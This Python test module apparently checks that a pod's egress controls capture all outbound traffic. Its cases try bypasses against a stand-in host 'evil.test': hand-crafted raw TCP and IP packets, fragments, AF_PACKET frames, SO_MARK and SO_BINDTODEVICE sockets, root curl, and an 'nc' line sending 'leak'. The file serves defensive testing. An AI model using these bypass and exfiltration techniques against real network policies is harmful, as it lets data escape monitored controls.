# SPDX-License-Identifier: MIT
"""What is not captured TCP: none of it may leave the pod. Run.play() looks at the wire after each case."""
import socket
import struct

from driver.errors import Failed
from driver.group import INBOUND
from lab import until
from lab.internet import FAMILY, V4
from lab.node import PROXY_UID
from lab.talk import Server, Talk

IP_NODEFRAG = 22
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
SCTP, GRE, UDPLITE = 132, 47, 136


def barrier(run):
    """An allowed request; when its packets are on the wire, whatever was sent before it is there too, or nowhere."""
    mark = len(run.group.sniffer.seen())
    code, _, _ = run.curl("http://origin.test/status/200")
    run.expect(code == "200", f"an allowed request: {code}")
    until(lambda: any(frame.dport == 80 for frame in run.group.sniffer.seen(mark)), "the allowed request's packets")


def attempt(action):
    """Try to send something; being refused is fine."""
    try:
        action()
    except OSError:
        pass


def udp_refused(run):
    for port in (443, 123, 9999):
        with run.pod.space.socket(FAMILY[run.family], socket.SOCK_DGRAM) as sock:
            sock.settimeout(5)
            try:
                sock.connect(run.endpoint(f"evil.test:{port}"))
                sock.send(b"hello")
                sock.recv(1)
            except (ConnectionRefusedError, PermissionError):  # at once, so that QUIC clients turn to TCP
                continue
            except OSError as error:
                raise Failed(f"UDP to port {port}: {error}, not an ICMP error") from None
            raise Failed("UDP was answered")
    barrier(run)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(src, dst, flags, payload=b"", sport=4444, dport=80, seq=1, ack=1, damage=0):
    """A TCP segment with a right checksum, unless that is damaged."""
    family = socket.AF_INET6 if ":" in src else socket.AF_INET
    head = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = socket.inet_pton(family, src) + socket.inet_pton(family, dst)
    pseudo += struct.pack("!BBH", 0, 6, len(head) + len(payload)) if family == socket.AF_INET else \
        struct.pack("!IHBB", len(head) + len(payload), 0, 0, 6)
    total = checksum(pseudo + head + payload) ^ damage
    return head[:16] + struct.pack("!H", total) + head[18:] + payload


def ipv4(src, dst, protocol, payload, fragment=0, ident=7, ttl=64):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, fragment, ttl, protocol, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ipv6(src, dst, protocol, payload, ttl=64):
    return struct.pack("!IHBB", 6 << 28, len(payload), protocol, ttl) + socket.inet_pton(socket.AF_INET6, src) + \
        socket.inet_pton(socket.AF_INET6, dst) + payload


def raw_packets(run):
    src, dst = run.pod.addresses[run.family], run.group.address("evil.test", False)
    syn, rst, ack = 2, 4, 16
    segments = [segment(src, dst, syn), segment(src, dst, rst | ack, b"leak" * 100), segment(src, dst, ack, b"leak" * 100),
                segment(src, dst, 0, b"leak"), segment(src, dst, 63)]
    for protocol in (SCTP, GRE, UDPLITE, socket.IPPROTO_UDP, 253):
        with run.pod.space.socket(FAMILY[run.family], socket.SOCK_RAW, protocol) as raw:
            attempt(lambda raw=raw: raw.sendto(struct.pack("!HHHH", 4444, 9999, 12, 0) + b"leak", (dst, 0)))
    with run.pod.space.socket(FAMILY[run.family], socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
        for data in segments:
            attempt(lambda data=data: raw.sendto(data, (dst, 0)))
    build = ipv4 if run.family == V4 else ipv6
    if run.family == V4:
        with run.pod.space.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            raw.setsockopt(socket.IPPROTO_IP, IP_NODEFRAG, 1)
            for data in segments:
                attempt(lambda data=data: raw.sendto(ipv4(src, dst, 6, data), (dst, 0)))
            data = segments[1]
            attempt(lambda: raw.sendto(ipv4(src, dst, 6, data[:24], 0x2000, 9), (dst, 0)))
            attempt(lambda: raw.sendto(ipv4(src, dst, 6, data[24:], 3, 9), (dst, 0)))
    link = run.pod.space.must(["cat", "/sys/class/net/eth0/address"]).stdout.strip()
    gateway = run.internet.space.must(["cat", f"/sys/class/net/{run.pod.wire}/address"]).stdout.strip()
    head = bytes.fromhex(gateway.replace(":", "") + link.replace(":", "") + ("0800" if run.family == V4 else "86dd"))
    with run.pod.space.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as packets, run.pod.space.inside():
        for data in segments:
            attempt(lambda data=data: packets.sendto(head + build(src, dst, 6, data), ("eth0", 0)))
        packets.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        attempt(lambda: packets.sendto(head + build(src, dst, 6, segments[0]), ("eth0", 0)))
    barrier(run)


def bypasses(run):
    """Ways that pass a plain redirect."""
    request = b"GET /echo HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
    options = [(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")]
    options += [(socket.SOL_SOCKET, socket.SO_MARK, struct.pack("I", mark)) for mark in (1337, 0x736c7563, 0x736c7501, 1)]
    for option in options:
        with run.pod.space.socket(FAMILY[run.family]) as sock:
            sock.settimeout(1)
            sock.setsockopt(*option)
            answer = b""
            try:
                sock.connect(run.endpoint("evil.test:80"))
                sock.sendall(request)
                answer = sock.recv(1 << 16)
            except OSError:
                pass
            run.expect(b" 200 " not in answer[:20], f"option {option}: the request went out")
        with run.pod.space.socket(FAMILY[run.family], socket.SOCK_DGRAM) as sock:
            sock.setsockopt(*option)
            attempt(lambda sock=sock: sock.sendto(b"leak", run.endpoint("evil.test:443")))
    for uid in (PROXY_UID, 0):
        done = run.command(f"curl -sS -m 2 -o /dev/null -w '%{{http_code}}' -{run.family} http://evil.test/", uid=uid)
        run.expect(done.stdout.strip() != "200", f"uid {uid}: the request went out")
        run.command(f"nc -{run.family} -u -w 1 @{{evil.test}} 443", uid=uid, stdin="leak")
    run.expect(run.command(f"cat {run.node.state}/mark").returncode != 0, "an application can read the secret mark")
    barrier(run)


def exempt_user(run):
    code, _, _ = run.curl("http://evil.test/echo", uid=2000)
    run.expect(code == "200", f"the exempt user: {code}")
    code, _, _ = run.curl("http://evil.test/echo", uid=2001)
    run.expect(code == "502", f"another user: {code}")


def udp_passes(run):
    with run.internet.space.socket(FAMILY[run.family], socket.SOCK_DGRAM) as server, \
            run.pod.space.socket(FAMILY[run.family], socket.SOCK_DGRAM) as client:
        server.bind(run.endpoint("evil.test:9999"))
        for sock in (server, client):
            sock.settimeout(5)
        client.sendto(b"ping", run.endpoint("evil.test:9999"))
        data, sender = server.recvfrom(100)
        server.sendto(b"pong", sender)
        run.expect(data == b"ping" and client.recv(100) == b"pong", "UDP does not go through")


def dns_refused(run):
    """A question to the name server, in both ways."""
    question = b"\0\7\1\0\0\1\0\0\0\0\0\0\6origin\4test\0\0\1\0\1"
    with run.pod.space.socket(FAMILY[run.family], socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        try:
            sock.connect((run.pod.nameserver, 53))
            sock.send(question)
            sock.recv(512)
        except (ConnectionRefusedError, PermissionError):
            pass
        else:
            raise Failed("an application's DNS question was answered")
    with run.pod.space.socket(FAMILY[run.family]) as sock:
        sock.settimeout(5)
        try:
            sock.connect((run.pod.nameserver, 53))
            sock.sendall(len(question).to_bytes(2, "big") + question)
            answer = sock.recv(512)
        except OSError:
            answer = b""
        run.expect(not answer, "an application's DNS question over TCP was answered")


def local(run):
    """A server in the pod: reached over loopback, over the pod's own address, and from outside."""
    listener = run.pod.space.socket(FAMILY[run.family])
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("::" if run.family != V4 else "0.0.0.0", INBOUND))
    listener.listen(8)
    server = Server(run.lab, listener, ["recv ping", "send pong", "hold"])
    run.servers.append(server)
    server.wanted = 3
    here, own = run.group.address("loopback", False), run.group.address("pod", False)
    for space, address in ((run.pod.space, here), (run.pod.space, own), (run.internet.space, own)):
        sock = space.socket(FAMILY[run.family])
        sock.settimeout(5)
        sock.connect((address, INBOUND))
        Talk(sock).play(["send ping", "recv pong", "close"])
